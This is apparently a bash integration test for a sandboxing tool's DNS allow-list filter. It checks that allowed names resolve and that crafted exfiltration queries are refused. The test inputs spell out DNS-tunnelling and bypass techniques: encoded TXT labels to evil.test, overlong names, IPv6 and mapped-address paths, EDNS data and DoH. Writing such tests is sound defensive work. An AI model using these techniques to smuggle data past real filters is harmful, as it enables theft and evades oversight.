#!/usr/bin/env bash
# The DNS filter end to end: `netfence run --allow-domains` with the real
# dnsmasq and Squid, on a host (loopback is the host). A stand-in upstream
# resolver on 127.53.K.1:53 (tests/root/dns_upstream.py) logs every question
# it receives; the command's /etc/resolv.conf (bind-mounted in a mount
# namespace of the test's own) names it, and --dns-servers allows it, so
# without the filter every query below reaches it. The test checks that
# allowed names resolve for every client (libc, Python, dig, Node), and that
# no exfiltration attempt reaches the upstream.
set -u
source "$(dirname "${BASH_SOURCE[0]}")/lib.sh"
require_root_env

private_pins
need_tools "run scripts/install-deps.sh" dig python3 unshare curl openssl /usr/sbin/dnsmasq \
	/usr/sbin/squid

HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
# Debian's python3: a pyenv shim in PATH takes seconds to start
PY=/usr/bin/python3
[[ -x $PY ]] || PY=$(command -v python3)
K=$((RANDOM % 200 + 20))
U=127.53.$K.1		# the stand-in upstream (the allowed resolver)
O=127.53.$K.2		# another address: nothing listens on its port 53
DOH=127.53.$K.5		# an HTTPS server on an IP literal (a DoH stand-in)
R=$RANDOM$RANDOM	# random labels
UPLOG=$TDIR/upstream.log
: >"$UPLOG"

bg_start upstream "$PY" "$HERE/dns_upstream.py" "$U" 53 "$UPLOG"
wait_ready upstream || { t_fail "start the upstream" "$(cat "$TDIR/upstream.err")"; t_summary; exit 1; }
tls_server doh "$DOH:443" dns.google

echo "nameserver $U" >"$TDIR/resolv.conf"
echo "127.77.$K.9 hostsonly.test" >"$TDIR/hosts"

LONG=$(printf 'a%.0s' {1..55})
LONGNAME=$LONG.$LONG.$LONG.$LONG.x2-$R.evil.test
MANY=$(printf 'a.%.0s' {1..110})x3-$R.evil.test
CLIENT="$PY $HERE/dns_client.py"

# The command: every check writes "key value..." to results; after phase 1
# it waits until the test has killed dnsmasq.
cat >"$TDIR/agent.sh" <<EOF
set -u
out=$TDIR/results
r() { printf '%s %s\n' "\$1" "\$2" >>"\$out"; echo "\$1 \$(date +%T.%N)" >>$TDIR/timing; }
st() { dig +tries=1 +time=3 "\$@" 2>&1 | sed -n 's/.*status: \([A-Z]*\).*/\1/p' | head -1; }
short() { dig +short +tries=1 +time=3 "\$@" 2>/dev/null | head -1; }
py() { $CLIENT "\$@" 2>&1 | tr '\n' ' '; }

# allowed names, every client
r a_getent4 "\$(getent ahostsv4 github.com | awk 'NR==1{print \$1}')"
r a_getent6 "\$(getent ahostsv6 api.github.com | awk 'NR==1{print \$1}')"
r a_python "\$($PY -c 'import socket; print(socket.getaddrinfo("GiThUb.CoM", 443, socket.AF_INET)[0][4][0])' 2>&1)"
r a_dig_udp "\$(short @$U registry.npmjs.org)"
r a_dig_tcp6 "\$(short +tcp @$U AAAA cdn.registry.npmjs.org)"
r a_dig_other "\$(dig +tries=1 +time=3 @$O github.com 2>&1 | grep -E '^github.com|SERVER' | tr '\n' ' ')"
r a_hosts "\$(short @$U hostsonly.test)"
r a_ednsopt "\$(st @$U +ednsopt=65001:736563726574 github.com)"
r a_connected "\$(py ask $O www.github.com)"
r a_sendto "\$(py sendto $U docs.github.com)"
r a_node "\$(node -e 'require("dns").resolve4("github.com",(e,a)=>console.log(e?e.code:a.join(",")))' 2>&1)"
r a_nodelookup "\$(node -e 'require("dns").lookup("api.github.com",4,(e,a)=>console.log(e?e.code:a))' 2>&1)"

# refused: never at the upstream
r x1_a "\$(st @$U x1a-$R.evil.test A)"
r x1_txt "\$(st @$U c2VjcmV0-$R.evil.test TXT)"
r x1_any "\$(st @$U x1any-$R.evil.test ANY)"
r x1_mx "\$(st @$U x1mx-$R.evil.test MX)"
r x2_long "\$(st @$U $LONGNAME)"
r x3_many "\$(st @$U $MANY)"
r x4_suffix "\$(st @$U evilgithub.com)"
r x5_prefix "\$(st @$U github.com.evil.test)"
r x6_case "\$(st @$U X6-$R.EvIl.TeSt)"
r x7_other "\$(st @$O x7-$R.evil.test)"
r x8_tcp "\$(st +tcp @$U x8-$R.evil.test)"
r x9_udp6 "\$(py udp6 ::1 x9u-$R.evil.test)"
r x9_tcp6 "\$(py tcp6 ::1 x9t-$R.evil.test)"
r x9_dig6 "\$(st @::1 x9d-$R.evil.test)"
r x9_sendto6 "\$(py sendto ::1 x9s-$R.evil.test)"
r x10_mapped "\$(py sendto ::ffff:$U x10-$R.evil.test)"
r x10_tcpmapped "\$(py tcp6 ::ffff:$U x10t-$R.evil.test)"
r x11_sendmmsg "\$(py sendmmsg $U x11-$R-%d.evil.test 16)"
r x12_edns "\$(st @$U +ednsopt=65001:736563726574 x12-$R.evil.test)"
r x13_twoq "\$(py twoq $U github.com x13-$R.evil.test)"
r x14_blocked "\$(st @$U blocked.npmjs.org)"
r x15_apex "\$(st @$U npmjs.org)"
r x16_getent "\$(getent ahostsv4 x16-$R.evil.test >/dev/null; echo rc=\$?)"
# a pattern (api-*.pat.test): dnsmasq cannot say it; the names under pat.test resolve
r p_match "\$(st @$U api-$R.pat.test)"
r p_parent "\$(st @$U other-$R.pat.test)"
r p_apex "\$(st @$U pat.test)"
r p_suffix "\$(st @$U api-$R.pat.test.evil.test)"
r x17_doh_ip "\$(curl -sk -m 10 -o /dev/null -w '%{http_code}' https://$DOH/dns-query; echo " rc=\$?")"
r x17_doh_sni "\$(curl -sk -m 10 -o /dev/null -w '%{http_code}' --resolve dns.google:443:$DOH https://dns.google/dns-query; echo " rc=\$?")"

# 10,000 queries in a burst: 5,000 allowed, 5,000 refused
r burst "\$(py burst $U b%d-$R.npmjs.org b%d-$R.evil.test 5000)"

touch $TDIR/phase1
for i in \$(seq 300); do [[ -e $TDIR/killed ]] && break; sleep 0.1; done
r k_allowed "\$(py ask $U afterkill-$R.github.com)"
r k_refused "\$(py ask $U afterkill-$R.evil.test)"
r k_dig "\$(st @$U afterkill2-$R.github.com)"
EOF

RUN_ARGS=(run --allow-domains "github.com,*.npmjs.org,https://dns.google.test,api-*.pat.test"
	--block-domains blocked.npmjs.org --dns-servers "$U" --hosts-file "$TDIR/hosts"
	--log-dir "$TDIR/logs" -- bash "$TDIR/agent.sh")
bg_start run unshare -m --propagation private bash -c \
	'mount --bind "$1" /etc/resolv.conf && shift && exec "$@"' x "$TDIR/resolv.conf" \
	"$NETFENCE" "${RUN_ARGS[@]}"

for i in $(seq 1200); do
	[[ -e $TDIR/phase1 ]] && break
	[[ -n $(bg_pid run) ]] && ! kill -0 "$(bg_pid run)" 2>/dev/null && break
	sleep 0.1
done
RUNPID=$(bg_pid run)
DNSPID=$(cat /tmp/netfence-run-"$RUNPID"-*/dnsmasq.pid 2>/dev/null)
if [[ -e $TDIR/phase1 && -n $DNSPID ]]; then
	st=$("$NETFENCE" -j status --cgroup "$CG2/netfence-run-$RUNPID/agent" 2>&1)
	refused=$(grep -o '"dns_refused":[0-9]*' <<<"$st" | cut -d: -f2)
	if ((${refused:-0} >= 5000)); then
		t_pass "status counts the refused queries (dns_refused=$refused)"
	else
		t_fail "status counts the refused queries" "$st"
	fi
	assert_match "status shows the filter" "$st" '"dns_proxy":"127\.0\.0\.1:[0-9]+"'
	[[ $(cat "/proc/$DNSPID/comm" 2>/dev/null) == dnsmasq ]] && kill -KILL "$DNSPID"
	assert_match "dnsmasq runs in the proxy's cgroup" \
		"$(cat /proc/"$DNSPID"/cgroup 2>/dev/null; echo "$CG2/netfence-run-$RUNPID/proxy")" \
		"netfence-run-$RUNPID/proxy"
else
	t_fail "the command reached phase 2" "$(cat "$TDIR/run.err")"
fi
touch "$TDIR/killed"
bg_wait run 60
rc=$?
assert_eq "run exits with the command's status" "$rc" 0

declare -A RES
while read -r k v; do RES[$k]=$v; done <"$TDIR/results"
res() { echo "${RES[$1]-<none>}"; }

# --- allowed names resolve -----------------------------------------------------
assert_eq "getent (libc, resolv.conf's resolver) A" "$(res a_getent4)" 10.53.0.1
assert_eq "getent AAAA" "$(res a_getent6)" fd53::1
assert_eq "python getaddrinfo, GiThUb.CoM (case)" "$(res a_python)" 10.53.0.1
assert_eq "dig UDP A under *.npmjs.org" "$(res a_dig_udp)" 10.53.0.1
assert_eq "dig TCP AAAA" "$(res a_dig_tcp6)" fd53::1
assert_match "dig to another address's port 53: answered, from that address" \
	"$(res a_dig_other)" "^github.com\..*10\.53\.0\.1.*SERVER: $O#53"
assert_eq "a --hosts-file name" "$(res a_hosts)" "127.77.$K.9"
assert_eq "an allowed name with an EDNS option" "$(res a_ednsopt)" NOERROR
assert_match "connected UDP: getpeername is the resolver asked" "$(res a_connected)" \
	"^peer $O:53 rcode NOERROR answer 10.53.0.1"
assert_match "unconnected: the reply comes from the resolver asked" "$(res a_sendto)" \
	"rcode NOERROR source $U:53"
if command -v node >/dev/null; then
	assert_eq "node dns.resolve4 (c-ares)" "$(res a_node)" 10.53.0.1
	assert_eq "node dns.lookup (libc)" "$(res a_nodelookup)" 10.53.0.1
else
	echo "note: node is not installed: its resolvers were not tried"
fi

# --- refused, and never at the upstream -----------------------------------------
assert_eq "pattern api-*.pat.test: a matching name resolves" "$(res p_match)" NOERROR
assert_eq "pattern: another name under pat.test resolves too (dnsmasq has no inner-label '*')" \
	"$(res p_parent)" NOERROR
for k in x1_a x1_txt x1_any x1_mx x2_long x3_many x4_suffix x5_prefix x6_case x7_other \
	x8_tcp x12_edns x14_blocked x15_apex p_apex p_suffix; do
	assert_eq "refused: $k" "$(res $k)" REFUSED
done
assert_match "refused: ::1 over connected UDP" "$(res x9_udp6)" "peer ::1:53 rcode REFUSED"
assert_match "refused: ::1 over TCP" "$(res x9_tcp6)" "peer ::1:53 rcode REFUSED"
assert_match "::1 unconnected sendto: refused or fails (cannot reach the IPv4 filter)" \
	"$(res x9_sendto6)" "rcode (REFUSED|error:)"
assert_match "refused: v4-mapped sendto, reply from the address asked" "$(res x10_mapped)" \
	"rcode REFUSED source ::ffff:$U:53"
assert_match "refused: v4-mapped over TCP" "$(res x10_tcpmapped)" "rcode REFUSED"
assert_match "refused: a sendmmsg burst of 16" "$(res x11_sendmmsg)" "sent 16 rcodes REFUSED=16"
assert_match "refused: two questions in one message" "$(res x13_twoq)" "rcode REFUSED"
assert_match "getent of a refused name fails" "$(res x16_getent)" "rc=2"
# the DoH stand-in answers 200; Squid ends the handshake or answers 403
assert_match "DoH to an IP literal on 443: Squid refuses (no allowed SNI)" "$(res x17_doh_ip)" \
	"^(000|403) rc="
assert_match "DoH with a not-allowed SNI: Squid refuses" "$(res x17_doh_sni)" "^(000|403) rc="
echo "note: dig @::1 gave '$(res x9_dig6)' (an IPV6_V6ONLY socket cannot reach the IPv4 filter)"

b=$(res burst)
assert_match "burst: all 5,000 allowed answered, 5,000 refused, none lost" "$b" \
	"allowed_ok 5000 refused_ok 5000 wrong 0 lost 0"
echo "burst: $b"

# --- the filter killed: DNS fails, closed ---------------------------------------
assert_match "dnsmasq killed: an allowed query fails" "$(res k_allowed)" "rcode error:"
assert_match "dnsmasq killed: a refused query fails" "$(res k_refused)" "rcode error:"
assert_eq "dnsmasq killed: dig gets no answer" "$(res k_dig)" ""
assert_match "run says the filter died" "$(cat "$TDIR/run.err")" \
	"DNS filter \(dnsmasq\) exited while bash was running"

# --- the upstream saw the allowed names and nothing else --------------------------
up=$(tr 'A-Z' 'a-z' <"$UPLOG")
assert_match "the upstream saw allowed names" "$up" "udp 1 github.com"
assert_match "the upstream saw allowed TCP queries" "$(cat "$UPLOG")" "tcp 28 cdn.registry.npmjs.org"
leaks=$(grep -E 'evil|afterkill|blocked\.npmjs|[0-9]+ npmjs\.org$|<malformed>' <<<"$up" | head -5)
if [[ -z $leaks ]]; then
	t_pass "no refused name reached the upstream ($(wc -l <"$UPLOG") questions logged)"
else
	t_fail "no refused name reached the upstream" "$(tr '\n' ' ' <<<"$leaks")"
fi
n=$(grep -c "^udp 1 b[0-9]*-$R.npmjs.org$" "$UPLOG")
assert_eq "the burst's allowed names each reached the upstream" "$n" 5000

# --- events ---------------------------------------------------------------------
ev=$TDIR/logs/events.jsonl
assert_match "a refusal is an event with name, type and command" \
	"$(grep -i "c2VjcmV0-$R" "$ev" | head -1)" \
	'"reason":"dns_refused","hook":"dns".*"destination":"127\.53\.[0-9.]+:53","name":"c2VjcmV0-[0-9]+\.evil\.test","qtype":"TXT".*"comm":"isc-net-0000|"comm":"dig'
assert_match "a refusal over ::1 names the address asked" \
	"$(grep "x9u-$R" "$ev" | head -1)" '"destination":"\[::1\]:53".*"comm":"python3"'
assert_match "a refusal over TCP is an event" \
	"$(grep "x8-$R" "$ev" | head -1)" '"proto":"tcp".*"name":"x8-[0-9]+\.evil\.test","qtype":"A"'
assert_match "dnsmasq.log kept in --log-dir" "$(ls "$TDIR/logs")" "dnsmasq.log"

# --- nothing left ---------------------------------------------------------------
left=$(ls -d /tmp/netfence-run-"$RUNPID"-* "$CG2/netfence-run-$RUNPID" 2>/dev/null)
assert_eq "run removed its directory and cgroups" "$left" ""
[[ -d /proc/$DNSPID && $(cat /proc/"$DNSPID"/comm 2>/dev/null) == dnsmasq ]] &&
	t_fail "dnsmasq is gone" "pid $DNSPID" || t_pass "dnsmasq is gone"

# --- faults ---------------------------------------------------------------------
cat >"$TDIR/bad-dnsmasq" <<'EOF'
#!/bin/sh
# a dnsmasq that checks fine and never starts
[ "$1" = --test ] && exit 0
echo "dnsmasq: failed to create listening socket" >&2
exit 2
EOF
chmod +x "$TDIR/bad-dnsmasq"
NETFENCE_DNSMASQ=$TDIR/bad-dnsmasq bg_start bad "$NETFENCE" run --allow-domains github.com \
	--dns-servers "$U" -- true
bg_wait bad 30
rc=$?
assert_eq "a filter that does not start: exit 1" "$rc" 1
assert_match "a filter that does not start: one Error line" "$(cat "$TDIR/bad.err")" \
	"^Error: the DNS filter \(dnsmasq\) did not start answering \(it exited\)"
# this run's only: other suites' killed runs may leave theirs for a while
left=$(ls -d /tmp/netfence-run-"$(bg_pid bad)"-* "$CG2/netfence-run-$(bg_pid bad)" 2>/dev/null)
assert_eq "a filter that does not start: nothing left" "$left" ""

# attach --dns-proxy: a filter the user runs (here a dnsmasq of the test's own)
CGA=$(make_cgroup attach) || exit 1
FPORT=$((20000 + RANDOM % 20000))
printf '%s\n' no-resolv no-hosts bind-interfaces listen-address=127.0.0.1 "port=$FPORT" \
	"server=/github.com/$U" user=root pid-file= >"$TDIR/filter.conf"
bg_start filter /usr/sbin/dnsmasq -k -C "$TDIR/filter.conf"
for i in $(seq 50); do ss -lun | grep -q "127.0.0.1:$FPORT " && break; sleep 0.1; done
"$NETFENCE" attach --cgroup "$CGA" --proxy 127.0.0.1:9 --loopback host --dns-servers "$U" \
	--dns-proxy "127.0.0.1:$FPORT" >"$TDIR/attach.out" 2>&1
assert_eq "attach --dns-proxy" "$?" 0
incg() { bash -c 'echo $$ >"$1/cgroup.procs" && shift && exec "$@"' x "$CGA" "$@"; }
assert_eq "attach --dns-proxy: an allowed name through the user's filter" \
	"$(incg dig +short +tries=1 +time=3 @$O github.com)" 10.53.0.1
assert_match "attach --dns-proxy: the rest refused" \
	"$(incg dig +tries=1 +time=3 @$U a-$R.attach.evil.test 2>&1)" "status: REFUSED"
assert_eq "attach --dns-proxy: nothing at the upstream" "$(grep -c "attach.evil" "$UPLOG")" 0
"$NETFENCE" detach --cgroup "$CGA" >/dev/null 2>&1
# the filter inside the agent's cgroup: refused
echo "$(bg_pid filter)" >"$CGA/cgroup.procs"
"$NETFENCE" attach --cgroup "$CGA" --proxy 127.0.0.1:9 --dns-proxy "127.0.0.1:$FPORT" \
	>"$TDIR/attach2.out" 2>"$TDIR/attach2.err"
rc=$?
assert_eq "--dns-proxy in the agent's cgroup: exit 2" "$rc" 2
assert_match "--dns-proxy in the agent's cgroup: one Error line" "$(cat "$TDIR/attach2.err")" \
	"^Error: --dns-proxy '127.0.0.1:$FPORT': the filter \(pid [0-9]+\) runs in the agent's cgroup"
"$NETFENCE" detach --cgroup "$CGA" >/dev/null 2>&1

# cleanup after a run killed with SIGKILL stops its dnsmasq
bg_start run2 "$NETFENCE" run --allow-domains github.com --dns-servers "$U" -- sleep 60
wait_run_cmd run2
P2=$(cat /tmp/netfence-run-"$(bg_pid run2)"-*/dnsmasq.pid 2>/dev/null)
{
	kill -KILL "$(bg_pid run2)"
	bg_wait run2 5
} 2>/dev/null
"$NETFENCE" cleanup >"$TDIR/cleanup.out" 2>&1
for i in $(seq 50); do [[ -d /proc/$P2 ]] || break; sleep 0.1; done
if [[ -n ${P2:-} && ! -d /proc/$P2 ]]; then
	t_pass "cleanup stops a killed run's dnsmasq"
else
	t_fail "cleanup stops a killed run's dnsmasq" "pid ${P2:-?}: $(cat "$TDIR/cleanup.out")"
fi

t_summary
